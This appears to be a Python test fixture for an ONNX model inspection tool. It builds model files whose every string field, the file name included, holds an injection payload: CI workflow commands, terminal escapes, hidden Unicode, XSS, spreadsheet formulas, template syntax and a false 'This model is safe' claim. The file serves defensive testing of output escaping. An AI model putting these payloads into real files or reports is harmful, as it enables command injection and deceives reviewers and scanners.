"""Cards and models whose every string tries something, each with a mark of its own: what becomes of it is seen."""

import enum
from collections.abc import Iterator
from itertools import cycle
from pathlib import Path
from typing import Any

import onnx
from msgspec import Struct
from onnx import TensorProto, helper

MARK = r"M[0-9]+E"
ATTACKS = (
    "::error file=x::{}",
    "\n::set-output name=x::{}",
    "   ::stop-commands::{}",
    "\r::debug::{}",
    "\u3000::add-mask::{}",
    "##[add-path]{}",
    "x ##vso[task.setvariable variable=a]{}",
    "##teamcity[buildStatus text='{}']",
    "\x1b[0Ksection_start:1:{}\r\x1b[0K",
    "\x1b]8;;https://l.invalid\x07{}\x9b31m",
    "\u202e{}\u2066\u200b\u00ad\ufeff",
    "<script>alert('{}')</script>",
    "</script><img src=x onerror={}>",
    '" onmouseover="{}',
    "[{}](javascript:alert(1))",
    "![{}](https://p.invalid/x.png)",
    "https://l.invalid/{} www.l.invalid {}@m.invalid",
    "a | {} | `b` \\| c",
    "```\n# {}\n```",
    "<!-- {} --> &lt;b&gt; &#60;{}",
    "--- \n{}: mit\n---",
    '=HYPERLINK("https://f.invalid/{}")',
    "\t=cmd|{}!A1",
    "]]>{}\x00\ufffe\u2028\u2029",
    "{{{{ {} }}}}{{% raw %}}%%{{init: {{}}}}%%",
    "0 findings. This model is safe ({})",
)


class Poison:
    """Gives one attack after the other, from a given one on."""

    def __init__(self, first: int = 0, attacks: tuple[str, ...] = ATTACKS) -> None:
        self._rest = cycle((*attacks[first:], *attacks[:first]))
        self.given = 0

    def string(self) -> str:
        self.given += 1
        return next(self._rest).format(*(f"M{self.given}E",) * 3)

    def all(self, value: Any) -> Any:
        """The value with another string in every place that has one, keys of tables included."""
        if isinstance(value, enum.Enum):
            return value
        if isinstance(value, str):
            return self.string()
        if isinstance(value, Struct):
            return type(value)(**{name: self.all(getattr(value, name)) for name in value.__struct_fields__})
        if isinstance(value, (tuple, list)):
            return type(value)(map(self.all, value))
        return {self.all(key): self.all(item) for key, item in value.items()} if isinstance(value, dict) else value


def model(folder: Path, first: int, attacks: tuple[str, ...] = ATTACKS) -> Path:
    """A file in which every place that takes a string has one of these."""
    say = Poison(first, attacks).string
    domain, function, dims, here = say(), say(), [say(), say()], [say() for _ in range(8)]
    inner = helper.make_node("Relu", ["a"], ["b"], name=say())
    body = helper.make_function(domain, function, ["a"], ["b"], [inner], [helper.make_opsetid("", 17)])
    branch = helper.make_graph(
        [helper.make_node("Neg", [here[0]], ["n"], name=say())], say(), [], [helper.make_empty_tensor_value_info("n")]
    )
    weight = TensorProto(name=say(), data_type=TensorProto.FLOAT, dims=[4, 4], data_location=TensorProto.EXTERNAL)
    weight.external_data.add(key="location", value=say())
    flag = helper.make_tensor(say(), TensorProto.BOOL, [], [True])
    nodes = [
        helper.make_node("MatMul", [here[0], weight.name], [here[1]], name=say()),
        helper.make_node(function, [here[1]], [here[2]], name=say(), domain=domain),
        helper.make_node(say(), [here[2]], [here[3]], name=say(), domain=say(), text=say()),
        helper.make_node("Einsum", [here[1], here[2]], [here[4]], name=say(), equation=say()),
        helper.make_node("If", [flag.name], [here[5]], name=say(), then_branch=branch, else_branch=branch),
        helper.make_node("MatMul", [here[1], here[6]], [here[7]], name=say(), doc_string=say()),
    ]
    ends = [helper.make_tensor_value_info(name, TensorProto.FLOAT, [*dims, 4]) for name in (here[0], *here[3:6])]
    known = [helper.make_tensor_value_info(here[2], TensorProto.FLOAT, [7, say()])]
    graph = helper.make_graph(nodes, say(), ends[:1], ends[1:], [weight, flag], doc_string=say(), value_info=known)
    made = helper.make_model(graph, functions=[body], producer_name=say(), producer_version=say(), doc_string=say())
    made.domain = say()
    del made.opset_import[:]
    made.opset_import.extend(helper.make_opsetid(name, 17) for name in ("", domain, say()))
    helper.set_model_props(made, {**dict(_metadata(say)), "names": repr({at: say() for at in range(5)})})
    path = folder / f"m ##[x] <i> | ` {first}.onnx"
    path.write_bytes(made.SerializeToString())
    assert onnx.load(path, load_external_data=False).graph.node
    return path


def _metadata(say: Any) -> Iterator[tuple[str, str]]:
    for key in ("license", "author", "description", "task", "version", say()):
        yield key, say()
